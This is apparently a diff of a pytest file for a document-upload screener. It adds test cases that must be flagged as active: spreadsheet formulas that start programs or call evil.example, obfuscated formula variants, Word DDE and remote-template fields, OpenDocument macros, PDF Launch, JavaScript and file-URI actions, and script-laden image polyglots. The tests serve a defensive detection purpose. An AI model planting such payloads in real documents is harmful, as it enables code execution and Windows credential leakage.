@@ -10,7 +10,7 @@ from collections.abc import Callable
 import openpyxl
 import pytest
 
-from tests.attacks.books import with_dde, with_external_link, with_macros, with_part
+from tests.attacks.books import changed, with_dde, with_external_link, with_macros, with_part
 from workbooks.harmless import LARGEST, Fitness, look_through
 
 TOKEN = "abcdefghij234567"
@@ -84,7 +84,26 @@ def pdf(*objects: bytes, packed: bytes = b"") -> bytes:
 
 
 CATALOG = b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj"
-PICTURE = b"\x89PNG\r\n\x1a\n" + bytes(40)
+PICTURE = b"\x89PNG\r\n\x1a\n" + b"".join(
+    bytes(3) + bytes([len(data)]) + kind + data + bytes(4) for kind, data in ((b"IHDR", bytes(13)), (b"IEND", b""))
+)
+PHOTO = b"\xff\xd8\xff\xe0\0\4ab\xff\xda\0\2\1\xff\0\xff\xd0\2\xff\xd9"
+DRAWING = b"GIF89a\1\0\1\0\x80\0\0" + bytes(6) + b"!\xfe\2hi\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
+FAX = b"II*\0" + bytes(40)
+
+
+ORDINARY = (
+    "=IF(A1='My sheet'!B2,\"It's: [1] of 2!\",Table1[Sum]-'It''s'!A1)",
+    '=HYPERLINK("https://ministry.example/"&A1,"see")',
+    '=HYPERLINK("#\'My sheet\'!A1","see")',
+    '=SUM(INDIRECT("A"&ROW()&":B2"))',
+)
+FOUND_IN_LETTERS = """<w:p><w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "/><w:r><w:fldChar w:fldCharType="begin"/></w:r>
+<w:r><w:instrText> TOC \\o "1-3" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>
+<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPER</w:instrText></w:r>
+<w:r><w:instrText>LINK \\l "_Toc1" </w:instrText></w:r>
+<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1 Scope</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>
+<w:r><w:fldChar w:fldCharType="end"/></w:r><w:fldSimple w:instr='hyperlink "mailto:a@ministry.example" \\o "write"'/></w:p>"""
 
 
 @pytest.mark.parametrize(
@@ -103,7 +122,22 @@ PICTURE = b"\x89PNG\r\n\x1a\n" + bytes(40)
         (pdf(CATALOG, packed=b"<< /Type /Page /JSON 1 >>"), "letter.pdf", ".pdf"),
         (pdf(b"1 0 obj << /Type /Catalog /OpenAction [3 0 R /Fit] >> endobj"), "letter.pdf", ".pdf"),
         (PICTURE, "scan.PNG", ".png"),
-        (b"\xff\xd8\xff\xe0" + bytes(30), "evil.html", ".jpg"),
+        (PHOTO, "evil.html", ".jpg"),
+        (PHOTO + bytes(3) + PHOTO, "a picture and its brightness.jpg", ".jpg"),
+        (DRAWING, "a.gif", ".gif"),
+        (FAX, "a.tif", ".tif"),
+        *((xlsx(formula=formula), "a.xlsx", ".xlsx") for formula in ORDINARY),
+        (docx(FOUND_IN_LETTERS), "a.docx", ".docx"),
+        (
+            opendocument("<table:table-cell table:formula='of:=HYPERLINK(&quot;https://a.example/&quot;;[.A1])'/>", kind="spreadsheet"),
+            "a.ods",
+            ".ods",
+        ),
+        (
+            pdf(b"1 0 obj << /A << /S /URI /URI (https://ministry.example/) >> /B << /S/URI/URI<6D61696C746F3A61> >> >> endobj"),
+            "a.pdf",
+            ".pdf",
+        ),
         ("Réponses, 12\n".encode(), "note.txt", ".txt"),
         (b"a;b\n-12;+3.5\n", "a.csv", ".csv"),
     ],
@@ -133,10 +167,53 @@ def test_a_workbook_acts_by_its_parts(change: Callable[[bytes], bytes]) -> None:
     assert look_through(change(xlsx()), "a.xlsx").fitness is Fitness.ACTIVE
 
 
-@pytest.mark.parametrize("formula", ["=cmd|'/c calc'!A0", '=WEBSERVICE("http://evil.example/")', '=RTD("a.b",,"c")'])
+FORMULAS = (
+    "=cmd|'/c calc'!A0",
+    '=WEBSERVICE("http://evil.example/")',
+    '=RTD("a.b",,"c")',
+    '=IMPORTDATA("https://evil.example/")',
+    "='\\\\evil.example\\share\\[x.xlsx]S'!A1",
+    "='\\\\evil.example\\share\\x.xlsx'!total",
+    "='C:\\share\\It''s [x.xlsx]S'!A1",
+    "='https://evil.example/x.xlsx'!total",
+    "=[1]S!A1",
+    "=[x.xlsx]!total",
+    "='file:///c:/x.ods'#$S.A1",
+    '=HYPERLINK("file://evil.example/x","click")',
+    '=HYPERLINK("\\\\evil.example\\x","click")',
+    '=HYPERLINK("fi"&"le://evil.example/x","click")',
+    "=HYPERLINK(A1)",
+    "=INDIRECT(\"'\\\\evil.example\\[x.xlsx]S'!A1\")",
+)
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
 def test_a_workbook_acts_by_its_formulas(formula: str) -> None:
-    """They start a program, or ask a server."""
+    """They start a program, ask a server, or name another file, for which Windows hands out its user's login."""
     assert look_through(xlsx(formula=formula), "a.xlsx").fitness is Fitness.ACTIVE
+
+
+def sheet_of(cell: str) -> bytes:
+    """Return a workbook whose one formula stands in its sheet as it is given here."""
+    return changed(xlsx(formula="=1+1"), "xl/worksheets/sheet1.xml", lambda sheet: sheet.replace(b"<f>1+1</f>", cell.encode()))
+
+
+@pytest.mark.parametrize(
+    "cell",
+    [
+        "<f>WEB&#83;ERVICE(A1)</f>",
+        "<f><![CDATA[WEBSERVICE(A1)]]></f>",
+        "<f>WEB<!-- -->SERVICE(A1)</f>",
+        f"<f>{'1+' * 9_000}WEBSERVICE(A1)</f>",
+        "<a><formula1>[x.xlsx]S!A1</formula1></a>",
+        "<a><calculatedColumnFormula>[x.xlsx]S!A1</calculatedColumnFormula></a>",
+        '<a macro="[x.xlsm]!go"/>',
+        '<a src="fil&#101;://evil.example/a"/>',
+    ],
+)
+def test_a_formula_is_read_as_a_spreadsheet_program_reads_it(cell: str) -> None:
+    """However its signs are written, however long it is, and wherever one may stand."""
+    assert look_through(sheet_of(cell), "a.xlsx").fitness is Fitness.ACTIVE
 
 
 @pytest.mark.parametrize("link", ["file:///c:/calc.exe", r"\\evil.example\share\a", "javascript:alert(1)"])
@@ -145,6 +222,7 @@ def test_a_link_may_lead_to_a_page_or_a_mailbox_only(link: str) -> None:
     assert look_through(xlsx(link=link), "a.xlsx").fitness is Fitness.ACTIVE
 
 
+BEGIN, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
 FIELD = "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd</w:instrText></w:r>"
 
 
@@ -153,6 +231,12 @@ FIELD = "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\c
     [
         docx(FIELD),
         docx('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/&quot; "/>'),
+        docx('<w:fldSimple w:instr="QUOTE 73 78"/>'),
+        docx('<w:fldSimple w:instr="HYPERLINK &quot;file://evil.example/x&quot;"/>'),
+        docx('<w:fldSimple w:instr="HYPERLINK \\\\\\\\evil.example\\\\x"/>'),
+        docx(f'{BEGIN}<w:instrText>HYPERLINK "</w:instrText>{BEGIN}<w:instrText>REF a</w:instrText>{END}<w:instrText>"</w:instrText>{END}'),
+        docx(f"{BEGIN}{BEGIN}<w:instrText>REF a</w:instrText>{END}<w:instrText>PAGE</w:instrText>{END}"),
+        docx("", elsewhere__footer1_xml=f'<w:ftr xmlns:w="{WORD}"><w:instrText>DDE a b</w:instrText></w:ftr>'),
         docx(relation=relation("attachedTemplate", "http://evil.example/a.dotm")),
         docx(relation=relation("image", "http://evil.example/a.png")),
         docx(relation=relation("oleObject", "embeddings/a.bin", "Internal")),
@@ -167,6 +251,9 @@ def test_a_document_of_word_acts_by_fields_and_relationships(data: bytes) -> Non
     assert look_through(data, "a.docx").fitness is Fitness.ACTIVE
 
 
+FOREIGN = "of:=['\\\\evil.example\\x.ods'#$S.A1]"
+
+
 @pytest.mark.parametrize(
     "data",
     [
@@ -177,6 +264,9 @@ def test_a_document_of_word_acts_by_fields_and_relationships(data: bytes) -> Non
         opendocument('<text:a xlink:href="file:///c:/a.exe">x</text:a>'),
         opendocument('<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;a&quot;;&quot;b&quot;)"/>', kind="spreadsheet"),
         opendocument("<table:table-source/>", kind="spreadsheet"),
+        opendocument("<text:execute-macro/>"),
+        opendocument(meta_xml="<a><auto-reload/></a>"),
+        *(opendocument(f'<table:named-expression table:{name}="{FOREIGN}"/>', kind="spreadsheet") for name in ("expression", "condition")),
     ],
 )
 def test_a_package_of_opendocument_acts_by_scripts_objects_and_links(data: bytes) -> None:
@@ -193,6 +283,10 @@ def test_a_package_of_opendocument_acts_by_scripts_objects_and_links(data: bytes
         pdf(b"1 0 obj << /AA << /O 5 0 R >> >> endobj"),
         pdf(b"1 0 obj << /S /Launch /F (calc.exe) >> endobj"),
         pdf(b"1 0 obj << /Names << /EmbeddedFiles 5 0 R >> >> endobj"),
+        pdf(b"1 0 obj << /S /URI /URI (file://evil.example/x) >> endobj"),
+        pdf(b"1 0 obj << /S /URI /URI %\n (\\\\\\\\evil.example\\\\x) >> endobj"),
+        pdf(b"1 0 obj << /S /URI /URI 5 0 R >> endobj"),
+        pdf(CATALOG, packed=b"<< /S /URI /UR#49 <66696c653a2f2f> >>"),
         pdf(CATALOG, packed=b"<< /S /JavaScript /JS (x) >>"),
         pdf(CATALOG, packed=b"<< /S /JavaScript /JS (x) >>").replace(b"/Type /ObjStm", b"/Type /Nothing"),
     ],
@@ -223,6 +317,9 @@ def test_a_file_that_carries_a_token_is_secret(data: bytes, name: str) -> None:
     assert look_through(data, name).fitness is Fitness.SECRET
 
 
+PROGRAMS = ("bat", "cmd", "hta", "js", "vbs", "ps1", "iqy", "slk", "reg", "sh", "py", "ics", "txt.exe", "url", "library-ms")
+
+
 @pytest.mark.parametrize(
     ("data", "name"),
     [
@@ -242,6 +339,9 @@ def test_a_file_that_carries_a_token_is_secret(data: bytes, name: str) -> None:
             "a.docx",
         ),
         (b"", "a.txt"),
+        *((pieces + b"<script>alert(1)</script>PK\3\4", "a.png") for pieces in (PICTURE, PHOTO, DRAWING)),
+        *((cut[:-2], "a.png") for cut in (PICTURE, PHOTO, DRAWING)),
+        *((b"@echo off\r\ncalc.exe\r\n", f"a.{ending}") for ending in PROGRAMS),
         (b"a" * (LARGEST + 1), "a.txt"),
     ],
 )
